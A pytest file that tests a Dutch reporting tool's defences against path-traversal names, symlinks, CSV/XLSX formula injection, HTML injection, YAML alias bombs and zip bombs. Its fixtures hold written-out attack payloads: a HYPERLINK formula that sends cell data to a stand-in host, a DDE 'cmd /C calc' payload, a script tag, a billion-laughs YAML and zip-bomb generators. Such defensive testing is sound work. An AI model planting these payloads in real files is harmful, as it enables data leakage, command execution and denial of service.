"""Issue 8, the hostile-input half: names that try to be paths, cells that try to be
formulas, rows that try to poison the register, and files that try to be bombs.

Each attack from the issue is repeated on real files through the command line
(click's runner, and a real process where time and memory matter) and through
the library; each must be refused in one line, exit 2, leave nothing behind.
"""
from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from drafter.cli import cli
from drafter.errors import DrafterError

from conftest import ROOT

pytestmark = pytest.mark.reliability

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def invoke(runner, *args: str):
    return runner.invoke(cli, list(args), catch_exceptions=False)


def one_error_line(result) -> str:
    """The single 'Error: …' line of a refused command (and no traceback)."""
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    lines = [line for line in result.output.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("Error: "), result.output
    return lines[0]


def files_under(folder: Path) -> set[Path]:
    return {p for p in folder.rglob("*")}


# -- 1. names are never paths -------------------------------------------------------
WIDE = "peildatum,2013,2014\n2022-05-01,5,6\n"


@pytest.fixture
def deep(tmp_path: Path) -> Path:
    """A working folder two levels down, so '../../x' would land inside tmp_path where we can see it."""
    folder = tmp_path / "a" / "b"
    folder.mkdir(parents=True)
    (folder / "wide.csv").write_text(WIDE, encoding="utf-8")
    return folder


@pytest.mark.parametrize("name", ["../../escape_series", "/tmp/x/victim", "..", ".hidden", "a/b", "a\\b",
                                  "x\x00y", "x\ny", "Bad Name", ""])
def test_a_series_name_that_is_a_path_is_refused_on_the_command_line(cli_runner, deep: Path, tmp_path: Path,
                                                                     name: str) -> None:
    before = files_under(tmp_path)
    line = one_error_line(invoke(cli_runner, "figures", "import", str(deep / "wide.csv"), "--series", name,
                                 "--store", str(deep / "store")))
    assert "--series" in line and "not allowed" in line
    assert files_under(tmp_path) == before  # no store, no escape_series.json two folders up
    assert not Path("/tmp/x/victim.json").exists() or name != "/tmp/x/victim"


@pytest.mark.parametrize("name", ["/tmp/x/victim", "../../escape_series"])
def test_a_series_column_that_is_a_path_names_row_and_column(cli_runner, deep: Path, tmp_path: Path,
                                                             name: str) -> None:
    delivery = deep / "long.csv"
    delivery.write_text(f"series,peildatum,cohort,value\nok,2022-05-01,2013,5\n{name},2022-05-01,2014,6\n",
                        encoding="utf-8")
    before = files_under(tmp_path)
    line = one_error_line(invoke(cli_runner, "figures", "import", str(delivery), "--store", str(deep / "store")))
    assert "sheet 'csv', cell A3" in line and repr(name) in line
    assert files_under(tmp_path) == before  # the good row 2 was not written either


def test_a_column_header_named_like_a_path_stays_inside_the_store(cli_runner, deep: Path, tmp_path: Path) -> None:
    """A header is a dimension (a JSON key) or a cohort (a value), never a file name."""
    wide = deep / "wide-paths.csv"
    wide.write_text("peildatum,../../escape_series,/tmp/x/victim\n2022-05-01,5,6\n", encoding="utf-8")
    long = deep / "long-paths.csv"
    long.write_text("series,peildatum,/tmp/x/victim,value\nveilig,2022-05-01,../../escape_series,5\n",
                    encoding="utf-8")
    store = deep / "store"
    assert invoke(cli_runner, "figures", "import", str(wide), "--series", "breed", "--new-series",
                  "--store", str(store)).exit_code == 0
    assert invoke(cli_runner, "figures", "import", str(long), "--new-series", "--store", str(store)).exit_code == 0
    new = files_under(tmp_path) - {wide, long, deep / "wide.csv"}
    assert {p.relative_to(deep) for p in new if p.is_file()} == {Path("store/breed.json"), Path("store/veilig.json")}
    assert not Path("/tmp/x/victim.json").exists()


def test_the_library_refuses_a_path_as_series_name(tmp_path: Path) -> None:
    from datetime import date

    from drafter.figures.store import FigureStore, Point

    store = FigureStore(tmp_path / "store")
    for name in ("../../escape_series", "/tmp/x/victim", "..", ".x"):
        with pytest.raises(DrafterError, match="not allowed"):
            store.add([Point(name, date(2022, 5, 1), (("cohort", "2013"),), 5, "f.csv", "csv", "row 2")])
        with pytest.raises(DrafterError, match="not allowed"):
            store.series_path(name)
    assert not (tmp_path / "store").exists() and not (tmp_path.parent / "escape_series.json").exists()


def test_a_stored_file_with_a_path_as_series_is_refused(tmp_path: Path) -> None:
    from drafter.figures.store import FigureStore

    store = tmp_path / "store"
    store.mkdir()
    (store / "evil.json").write_text(json.dumps({"series": "../escape", "dimensions": [], "points": []}))
    with pytest.raises(DrafterError, match=r"evil.json.*not allowed"):
        FigureStore(store)


def test_a_series_file_that_links_outside_the_store_is_not_written_through(tmp_path: Path) -> None:
    from datetime import date

    from drafter.figures.store import FigureStore, Point

    store = tmp_path / "store"
    store.mkdir()
    victim = tmp_path / "victim.json"
    victim.write_text("precious", encoding="utf-8")
    (store / "elip.json").symlink_to(victim)
    figures = FigureStore.__new__(FigureStore)  # an empty store over that folder (the link is no figures file)
    figures.root, figures.points, figures.info = store, {}, {}
    figures.published, figures.history = [], []
    figures.add([Point("elip", date(2022, 5, 1), (("cohort", "2013"),), 5, "f.csv", "csv", "row 2")])
    with pytest.raises(DrafterError, match="outside the store"):
        figures.save()
    assert victim.read_text(encoding="utf-8") == "precious"


# -- 5. validated figures rows --------------------------------------------------------
@pytest.mark.parametrize("row,where", [
    ("ok,2022-13-01,2014,5", "sheet 'csv', cell B3"),
    ("ok,2022-05-01,2014,vijf", "sheet 'csv', cell D3"),
    ("ok,2022-05-01,2014," + "9" * 5000, "sheet 'csv', cell D3"),
    ("ok,2022-05-01,2014,nan", "sheet 'csv', cell D3"),
    ("ok,2022-05-01", "sheet 'csv', cell D3"),  # a short row
])
def test_a_bad_figures_row_stops_the_import_and_writes_nothing(cli_runner, tmp_path: Path, row: str,
                                                               where: str) -> None:
    delivery = tmp_path / "levering.csv"
    delivery.write_text(f"series,peildatum,cohort,value\nok,2022-05-01,2013,5\n{row}\n", encoding="utf-8")
    line = one_error_line(invoke(cli_runner, "figures", "import", str(delivery), "--store", str(tmp_path / "store")))
    assert where in line
    assert not (tmp_path / "store").exists()


def test_a_bad_second_file_writes_nothing_of_the_first(cli_runner, tmp_path: Path) -> None:
    store = tmp_path / "store"
    (tmp_path / "goed.csv").write_text(WIDE, encoding="utf-8")
    assert invoke(cli_runner, "figures", "import", str(tmp_path / "goed.csv"), "--series", "eerst", "--new-series",
                  "--store", str(store)).exit_code == 0
    before = (store / "eerst.json").read_bytes()
    (tmp_path / "goed2.csv").write_text("peildatum,2013\n2022-11-01,7\n", encoding="utf-8")
    (tmp_path / "fout.csv").write_text("peildatum,2013\n2022-11-31,7\n", encoding="utf-8")
    line = one_error_line(invoke(cli_runner, "figures", "import", str(tmp_path / "goed2.csv"),
                                 str(tmp_path / "fout.csv"), "--series", "eerst", "--store", str(store)))
    assert "fout.csv: sheet 'csv', cell A2" in line
    assert (store / "eerst.json").read_bytes() == before
    assert sorted(p.name for p in store.iterdir()) == ["eerst.json"]


# -- 2. safe exports --------------------------------------------------------------------
HOSTILE = ['=HYPERLINK("http://example.invalid/?q="&A1,"klik hier")', "=1+1 zo gedaan", "@SUM(1+1)*cmd",
           "+31 toezegging", "-2+3 gedaan", "\tgetabt", "<script>alert(1)</script> De minister stuurt de Kamer"]


@pytest.fixture
def hostile_register(cli_runner, tmp_path: Path, monkeypatch) -> str:
    """A register whose texts, members and source file name all start like formulas."""
    db = str(tmp_path / "register.sqlite")
    monkeypatch.chdir(tmp_path)  # imported by its relative name, so the source column starts with '='
    letter = Path("=1+2 x.txt")
    letter.write_text("Datum 3 maart 2024\n\nIn het commissiedebat van 12 februari 2024 heb ik het lid Bikker (CU) "
                      "toegezegd voor de zomer een evaluatie te sturen.\n", encoding="utf-8")
    assert invoke(cli_runner, "commitments", "import", str(letter), "--db", db).exit_code == 0
    tk = tmp_path / "tk.json"
    tk.write_text(json.dumps({"value": [
        {"Nummer": f"TZ202401-{n:03d}", "Tekst": text, "Status": "Openstaand",
         "DatumNakoming": "2024-06-30T00:00:00Z", "Ministerie": "=SZW", "Naam": "@minister",
         "ToegezegdAan": "=cmd|' /C calc'!A0"} for n, text in enumerate(HOSTILE, 1)]}), encoding="utf-8")
    assert invoke(cli_runner, "commitments", "import", str(tk), "--tk-register", "--db", db).exit_code == 0
    return db


def assert_csv_safe(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) > len(HOSTILE)
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell
    return rows


def test_no_csv_cell_of_any_report_or_export_can_run_as_a_formula(cli_runner, hostile_register: str,
                                                                  tmp_path: Path) -> None:
    db = hostile_register
    report = invoke(cli_runner, "commitments", "report", "--db", db, "--format", "csv")
    rows = assert_csv_safe(report.output)
    cells = {cell for row in rows for cell in row}
    assert "'=1+2 x.txt" in cells  # the source column, neutralised by the OWASP single quote
    assert "'=1+1 zo gedaan" in cells and "'-2+3 gedaan" in cells
    assert "1" in cells  # the record number is still a plain number
    for fmt in ("csv", "tk-csv"):
        out = tmp_path / f"export.{fmt}"
        result = invoke(cli_runner, "commitments", "export", "--db", db, "--format", fmt, "-o", str(out),
                        "--ministerie", "=SZW")
        assert result.exit_code == 0
        assert_csv_safe(out.read_text(encoding="utf-8"))
    tk_rows = list(csv.DictReader(io.StringIO((tmp_path / "export.tk-csv").read_text(encoding="utf-8"))))
    assert {r["Ministerie"] for r in tk_rows} == {"'=SZW"}  # --ministerie is text too
    assert any(r["DatumNakoming"] == "2024-06-30T00:00:00Z" for r in tk_rows)


def test_no_xlsx_cell_is_a_formula_and_numbers_stay_numbers(cli_runner, hostile_register: str,
                                                            tmp_path: Path) -> None:
    book = tmp_path / "r.xlsx"
    result = invoke(cli_runner, "commitments", "report", "--db", hostile_register, "--format", "xlsx",
                    "-o", str(book))
    assert result.exit_code == 0
    wb = load_workbook(book)  # not data_only: a formula would come back as its formula
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_START), cell.value
                    texts.append(cell.value)
    register = wb["Register"]
    assert all(isinstance(register.cell(row=r, column=1).value, int) for r in range(2, len(HOSTILE) + 3))
    assert any(t.startswith("'=1+2 x.txt") for t in texts) and any(t.startswith("'=HYPERLINK(") for t in texts)
    assert any(str(c.value).startswith("2024-06-30") for c in register["J"])  # a real date cell, not text


def test_markdown_and_html_escape_html(cli_runner, hostile_register: str) -> None:
    md = invoke(cli_runner, "commitments", "report", "--db", hostile_register, "--format", "md").output
    assert "<script>" not in md and "&lt;script&gt;alert(1)&lt;/script&gt;" in md
    page = invoke(cli_runner, "commitments", "report", "--db", hostile_register, "--format", "html").output
    assert "<script>" not in page


def test_the_one_cell_rule() -> None:
    from drafter.commitments.report import safe_cell, safe_row

    assert safe_row(["=1+1", "+1 x", "-1+2", "@A1", "\t=1", "\r=1"]) == \
        ["'=1+1", "'+1 x", "'-1+2", "'@A1", "'\t=1", "'\r=1"]
    # data stays data: numbers, plain numeric text, a Dutch en-dash percentage, dates, None
    assert safe_row([-5, 3.5, "-12", "+3", "-1,5", "– 18%", None, "Openstaand"]) == \
        [-5, 3.5, "-12", "+3", "-1,5", "– 18%", None, "Openstaand"]
    assert safe_cell("a=1") == "a=1"


# -- 5. validated Tweede Kamer imports --------------------------------------------------
def tk_file(path: Path, **changes: str) -> Path:
    good = {"Nummer": "TZ202401-001", "Tekst": "De minister stuurt de Kamer een overzicht van wachttijden.",
            "Status": "Openstaand", "DatumNakoming": "2024-06-30T00:00:00Z", "Ministerie": "SZW",
            "Naam": "Van Gennip", "ToegezegdAan": "Podt"}
    second = dict(good, Nummer="TZ202401-002", Tekst="De minister informeert de Kamer over de evaluatie.")
    second.update(changes)
    if path.suffix == ".json":
        path.write_text(json.dumps({"value": [good, second]}), encoding="utf-8")
    else:
        buf = io.StringIO()
        writer = csv.DictWriter(buf, fieldnames=list(good))
        writer.writeheader()
        writer.writerows([good, second])
        path.write_text(buf.getvalue(), encoding="utf-8")
    return path


@pytest.mark.parametrize("suffix", [".json", ".csv"])
@pytest.mark.parametrize("field,value", [
    ("DatumNakoming", "2024-13-45T00:00:00Z"), ("DatumNakoming", "morgen"), ("DatumNakoming", "31-12-2024"),
    ("Status", "Misschien"), ("Nummer", ""), ("Nummer", "../../x"), ("Nummer", "TZ202401-001"),
    ("Tekst", ""), ("Naam", "a\x1b[2Jb"),
])
def test_a_bad_tk_row_names_row_and_field_and_creates_no_register(cli_runner, tmp_path: Path, suffix: str,
                                                                  field: str, value: str) -> None:
    export = tk_file(tmp_path / f"tk{suffix}", **{field: value})
    db = tmp_path / "nieuw.sqlite"
    line = one_error_line(invoke(cli_runner, "commitments", "import", str(export), "--tk-register", "--db", str(db)))
    where = "row 3" if suffix == ".csv" else "record 2"
    assert f"{export}: {where}, {field}:" in line
    assert sorted(p.name for p in tmp_path.iterdir()) == [export.name]  # no register file, no journal


def test_a_bad_tk_row_leaves_an_existing_register_as_it_was(cli_runner, hostile_register: str,
                                                            tmp_path: Path) -> None:
    def state() -> str:
        return invoke(cli_runner, "commitments", "report", "--db", hostile_register, "--format", "json").output

    before = state()
    export = tk_file(tmp_path / "tk-bad.json", DatumNakoming="2024-02-30")
    line = one_error_line(invoke(cli_runner, "commitments", "import", str(export), "--tk-register",
                                 "--db", hostile_register))
    assert "record 2, DatumNakoming" in line
    assert state() == before


def test_a_failed_document_import_leaves_no_new_register(cli_runner, tmp_path: Path) -> None:
    binary = tmp_path / "kapot.pdf"
    binary.write_bytes(b"%PDF-1.4\n" + bytes(range(256)) * 4)
    result = invoke(cli_runner, "commitments", "import", str(binary), "--db", str(tmp_path / "nieuw.sqlite"))
    assert result.exit_code == 3 and "Traceback" not in result.output
    assert sorted(p.name for p in tmp_path.iterdir()) == ["kapot.pdf"]


def test_a_register_holding_a_bad_date_still_reads(cli_runner, hostile_register: str, tmp_path: Path) -> None:
    """What an older version let in must not break every reading command."""
    with sqlite3.connect(hostile_register) as conn:
        conn.execute("UPDATE commitments SET due_date = '2024-13-45', made_on = '2024-99' WHERE id = 2")
        conn.execute("UPDATE commitments SET due_date = 'morgen' WHERE id = 3")
    db = ["--db", hostile_register]
    assert invoke(cli_runner, "commitments", "list", *db).exit_code == 0
    for fmt in ("table", "md", "csv", "html", "json"):
        result = invoke(cli_runner, "commitments", "report", *db, "--format", fmt)
        assert result.exit_code == 0, (fmt, result.output)
        assert "2024-13-45" in result.output  # shown as written, not hidden
    assert invoke(cli_runner, "commitments", "report", *db, "--format", "xlsx",
                  "-o", str(tmp_path / "r.xlsx")).exit_code == 0
    for fmt in ("tk-csv", "tk-json", "json", "csv"):
        assert invoke(cli_runner, "commitments", "export", *db, "--format", fmt).exit_code == 0, fmt
    for record in ("2", "3"):
        shown = invoke(cli_runner, "commitments", "show", record, *db)
        assert shown.exit_code == 0, shown.output


# -- 6. size limits ---------------------------------------------------------------------
BILLION_LAUGHS = 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n' + "".join(
    f"{b}: &{b} [{', '.join(['*' + a] * 9)}]\n" for a, b in zip("abcdefgh", "bcdefghi"))


def test_a_yaml_alias_bomb_is_refused_at_once(tmp_path: Path) -> None:
    from drafter.safeyaml import load_yaml_file

    bomb = tmp_path / "bomb.yaml"
    bomb.write_text(BILLION_LAUGHS, encoding="utf-8")
    start = time.monotonic()
    with pytest.raises(DrafterError) as err:
        load_yaml_file(bomb)
    assert time.monotonic() - start < 2
    assert str(err.value) == f"{bomb}: line 2: YAML aliases (*a) are not allowed"


def test_safe_yaml_refuses_big_binary_and_broken_files_in_one_line(tmp_path: Path) -> None:
    from drafter.safeyaml import load_yaml_file, load_yaml_text

    big = tmp_path / "big.yaml"
    big.write_text("a: " + "x" * (6 * 1024 * 1024) + "\n", encoding="utf-8")
    binary = tmp_path / "spec.yaml"
    binary.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00")
    deep = tmp_path / "deep.yaml"
    deep.write_text("[" * 20000 + "]" * 20000, encoding="utf-8")
    flat = "\n".join(f"k{i}: {i}" for i in range(1_200))
    for path, problem in ((big, "larger than 5 MB"), (binary, "not a UTF-8 text file"), (deep, "nested too deeply")):
        with pytest.raises(DrafterError) as err:
            load_yaml_file(path)
        assert str(err.value).startswith(f"{path}: ") and problem in str(err.value) and "\n" not in str(err.value)
    with pytest.raises(DrafterError, match="flat: more than 1000 YAML nodes"):
        load_yaml_text(flat, source="flat", max_nodes=1000)
    assert load_yaml_text("a: [1, 2]\nb: 2024-05-01\n")["a"] == [1, 2]


def zip_bomb(path: Path, member: str, size: int, extra: dict[str, bytes] | None = None) -> Path:
    """A zip whose one big member is ``size`` bytes of zeros (compresses about 1000 times)."""
    block = b"\0" * (1024 * 1024)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
        with archive.open(member, "w", force_zip64=True) as handle:
            for _ in range(size // len(block)):
                handle.write(block)
    return path


@pytest.fixture(scope="module")
def bombs(tmp_path_factory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("bombs")
    return {
        "xlsx": zip_bomb(folder / "levering.xlsx", "xl/worksheets/sheet1.xml", 256 * 1024 * 1024,
                         {"[Content_Types].xml": b"<Types/>"}),
        "docx": zip_bomb(folder / "nota.docx", "word/document.xml", 256 * 1024 * 1024,
                         {"[Content_Types].xml": b"<Types/>"}),
    }


def run_measured(*args: str, cwd: Path) -> tuple[subprocess.CompletedProcess, float, int]:
    """A real ``python -m drafter`` process: its output, seconds and peak memory (bytes)."""
    code = ("import resource, subprocess, sys, time; t = time.monotonic(); "
            "p = subprocess.run(sys.argv[1:], capture_output=True, text=True); "
            "print(p.returncode, time.monotonic() - t, "
            "resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * 1024); "
            "sys.stdout.write(p.stderr)")
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    proc = subprocess.run([sys.executable, "-c", code, sys.executable, "-m", "drafter", *args], cwd=cwd, env=env,
                          capture_output=True, text=True, timeout=120)
    head, _, stderr = proc.stdout.partition("\n")
    rc, seconds, peak = head.split()
    return subprocess.CompletedProcess(args, int(rc), "", stderr), float(seconds), int(peak)


@pytest.mark.parametrize("kind,command", [
    ("xlsx", ["figures", "import", "{path}", "--series", "elip", "--store", "store"]),
    ("docx", ["figures", "import", "{path}", "--store", "store"]),
    ("docx", ["commitments", "extract", "{path}"]),
])
def test_a_zip_bomb_is_refused_within_seconds_and_little_memory(bombs: dict[str, Path], tmp_path: Path,
                                                                kind: str, command: list[str]) -> None:
    path = bombs[kind]
    proc, seconds, peak = run_measured(*[c.format(path=path) for c in command], cwd=tmp_path)
    assert proc.returncode == (2 if kind == "xlsx" else 3)  # the figures importer refuses xlsx as a DrafterError
    assert proc.stderr.splitlines() == [f"Error: {path}: refused: would unpack to more than 200 MB "
                                        "(the limit for .docx/.xlsx; a zip bomb or a far too large file)"]
    assert seconds < 10 and peak < 1024 ** 3
    assert sorted(p.name for p in tmp_path.iterdir()) == []


def test_zip_limits_on_ratio_and_member_count(tmp_path: Path) -> None:
    from ocr.errors import ReadError
    from ocr.limits import check_zip_limits

    dense = zip_bomb(tmp_path / "dense.xlsx", "xl/worksheets/sheet1.xml", 32 * 1024 * 1024)
    with pytest.raises(ReadError, match=r"sheet1.xml is compressed \d+ times \(limit 250"):
        check_zip_limits(dense)
    many = tmp_path / "many.docx"
    with zipfile.ZipFile(many, "w") as archive:
        for n in range(10_001):
            archive.writestr(f"word/m{n}.xml", b"")
    with pytest.raises(ReadError, match="10001 files inside the archive"):
        check_zip_limits(many)


def test_real_office_files_pass_the_limits(tmp_path: Path) -> None:
    from ocr.limits import check_zip_limits

    book = tmp_path / "levering.xlsx"
    wb = Workbook()
    wb.active.append(["peildatum", "2013"])
    wb.active.append(["2022-05-01", 5])
    wb.save(book)
    check_zip_limits(book)
    for docx in sorted((ROOT / "corpus").rglob("*.docx"))[:3] + sorted((ROOT / "tests" / "data").rglob("*.docx"))[:3]:
        check_zip_limits(docx)
    check_zip_limits(tmp_path / "not-there.docx")  # not a zip: the format's own reader says so
